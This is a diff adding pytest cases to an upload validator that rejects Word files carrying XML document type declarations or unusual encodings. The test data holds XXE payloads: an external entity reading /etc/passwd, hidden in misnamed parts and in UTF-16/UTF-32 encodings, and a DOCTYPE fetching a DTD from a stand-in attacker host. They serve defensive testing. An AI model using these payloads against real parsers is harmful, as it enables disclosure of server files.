@@ -129,6 +129,34 @@ def _zip(members: dict[str, bytes]) -> bytes:
 
 
 OOXML = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
+DTD16 = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d [<!ENTITY a "aaaa">]><d>&a;</d>'.encode("utf-16")
+
+
+def test_every_part_is_checked_by_its_content() -> None:
+    """Whatever a part is called and however it is encoded, a document type declaration is refused, and so is XML
+    in an encoding Office and OpenDocument files never use; the same XML without one, in UTF-8 or UTF-16, passes."""
+    from migcap.capacity.uploads import check_upload
+    from migcap.errors import InputError
+
+    def docx(part: str, data: bytes) -> bytes:
+        return _zip({"[Content_Types].xml": OOXML, "word/document.xml": b"<d/>", part: data})
+
+    dtd = '<?xml version="1.0"?><!doctype x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
+    for part in ("word/document.xml", "customXml/item1.bin", "word/media/image1.png", "docProps/custom", "x.XML"):
+        for encoding in ("utf-8", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-be"):
+            with pytest.raises(InputError, match=r"document type declaration|encoded as UCS-4"):
+                check_upload(docx(part, dtd.encode(encoding)), "report.docx", max_bytes=10**6)
+    for decl, enc in (("UTF-7", "utf-8"), ("ISO-2022-JP", "utf-8"), ("cp037", "cp037")):
+        text = f'<?xml version="1.0" encoding="{decl}"?><x/>'
+        with pytest.raises(InputError, match="encoded as"):
+            check_upload(docx("customXml/item1.xml", text.encode(enc)), "report.docx", max_bytes=10**6)
+    with pytest.raises(InputError, match="document type declaration"):  # split across two chunks of the scan
+        check_upload(docx("word/styles.xml", b"<s>" + b" " * (64 * 1024 - 5) + b"<!DOCTYPE s><s/>"), "r.docx",
+                     max_bytes=10**6)
+    fine = '<?xml version="1.0" encoding="UTF-16" standalone="yes"?><d>caf\xe9 <!-- a comment --></d>'
+    for encoding in ("utf-16", "utf-8"):
+        name, media = check_upload(docx("word/comments.xml", fine.encode(encoding)), "ok.docx", max_bytes=10**6)
+        assert (name, media.split(".")[-1]) == ("ok.docx", "document")
 
 
 @pytest.fixture(scope="module")
@@ -163,6 +191,11 @@ def test_bad_uploads_are_refused_and_nothing_is_stored(small: Clients, world: Wo
         ("entities.docx", _zip({"[Content_Types].xml": b'<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "aaaa">]>'
                                                        b"<Types>&a;</Types>", "word/document.xml": b"<d/>"}),
          "document type declaration"),
+        # as found, these two were accepted: the declaration in UTF-16, or in a part not named .xml
+        ("utf16.docx", _zip({"[Content_Types].xml": OOXML, "word/document.xml": DTD16}), "document type declaration"),
+        ("custom.docx", _zip({"[Content_Types].xml": OOXML, "word/document.xml": b"<d/>",
+                              "customXml/item1.bin": b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://evil.example/'
+                                                     b'x.dtd"><x/>'}), "document type declaration"),
         ("macro.docx", _zip({"[Content_Types].xml": OOXML, "word/document.xml": b"<d/>",
                              "word/vbaProject.bin": b"x"}), "macros"),
         ("broken.docx", b"PK\x03\x04 this is not really a zip", "damaged"),
